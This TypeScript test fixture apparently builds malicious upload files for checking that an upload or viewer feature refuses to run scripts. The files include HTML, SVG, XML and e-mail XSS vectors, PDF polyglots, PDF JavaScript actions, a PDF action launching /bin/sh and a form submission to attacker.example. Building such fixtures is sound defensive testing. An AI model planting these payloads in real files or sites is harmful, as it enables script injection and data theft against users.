// Files whose contents would run as a script if a browser opened them as part of the site.

/** A file as an attacker uploads it. */
export interface HostileFile {
  readonly name: string;
  readonly type: string;
  readonly content: string;
}

const call = "ran()";
const html = `<!doctype html><title>x</title><script>${call}</script><img src=x onerror=${call}>Total: 10.00`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}" width="90" height="90"><script>${call}</script><text y="20">Total: 10.00</text></svg>`;
const javascript = `/S /JavaScript /JS (app.alert\\(1\\); ${call.replaceAll(/[()]/g, "\\$&")};)`;
const action = `<< ${javascript} >>`;

/** HTML, SVG, XML, e-mails and PDFs with scripts, under their own types and disguised as others. */
export const hostileFiles: readonly HostileFile[] = [
  { name: "page.html", type: "text/html", content: html },
  { name: "page.xhtml", type: "application/xhtml+xml", content: xhtml("script", call) },
  { name: "page.pdf", type: "application/pdf", content: html },
  { name: "polyglot.pdf", type: "application/pdf", content: `%PDF-1.7\n${html}\n%%EOF` },
  {
    name: "polyglot.html",
    type: "text/html",
    content: pdf({}).replace("%PDF-1.7\n", `%PDF-1.7\n%${html}\n`),
  },
  { name: "page.txt", type: "text/plain", content: html },
  { name: "image.svg", type: "image/svg+xml", content: svg },
  { name: "image.png", type: "image/png", content: svg },
  { name: "drawing.pdf", type: "application/pdf", content: svg },
  {
    name: "sheet.xml",
    type: "application/xml",
    content: `<?xml-stylesheet href="javascript:${call}"?>${svg}`,
  },
  {
    name: "mail.eml",
    type: "message/rfc822",
    content: `From: a@example.com\r\nSubject: <script>${call}</script>\r\nContent-Type: text/html\r\n\r\n${html}`,
  },
  { name: "open.pdf", type: "application/pdf", content: pdf({ catalog: `/OpenAction ${action}` }) },
  {
    name: "events.pdf",
    type: "application/pdf",
    content: pdf({ page: `/AA << /O ${action} /C ${action} >>` }),
  },
  {
    name: "names.pdf",
    type: "application/pdf",
    content: pdf({ catalog: `/Names << /JavaScript << /Names [(x) ${action}] >> >>` }),
  },
  { name: "link.pdf", type: "application/pdf", content: pdf({ page: annotation(action) }) },
  {
    name: "address.pdf",
    type: "application/pdf",
    content: pdf({ page: annotation(`<< /S /URI /URI (javascript:${call.replaceAll(/[()]/g, "\\$&")}) >>`) }),
  },
  {
    name: "launch.pdf",
    type: "application/pdf",
    content: pdf({ catalog: "/OpenAction << /S /Launch /F (/bin/sh) >>" }),
  },
  {
    name: "submit.pdf",
    type: "application/pdf",
    content: pdf({ catalog: "/OpenAction << /S /SubmitForm /F (https://attacker.example/) >>" }),
  },
  {
    name: "form.pdf",
    type: "application/pdf",
    content: pdf({
      page: `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (<img src=x onerror=${call.slice(0, 3)}>) /Rect [0 0 90 90] /AA << /F ${action} >> >>]`,
    }),
  },
  {
    name: "text.pdf",
    type: "application/pdf",
    content: pdf({ text: `Total: 10.00 <script>${call.slice(0, 3)}\\(\\)</script>` }),
  },
];

function annotation(what: string): string {
  return `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A ${what} >>]`;
}

function xhtml(element: string, text: string): string {
  return `<html xmlns="http://www.w3.org/1999/xhtml"><body><${element}>${text}</${element}>Total: 10.00</body></html>`;
}

/** A PDF of one page, with more entries in its catalog and its page. */
function pdf({ catalog = "", page = "", text = "Invoice  Total: 10.00" }): string {
  const stream = `BT /F 12 Tf 72 720 Td (${text}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${page} >>`,
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let body = "%PDF-1.7\n";
  const offsets = objects.map((object, at) => {
    const offset = body.length;
    body += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, "0")} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join("")}`;
  return `${body}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
}
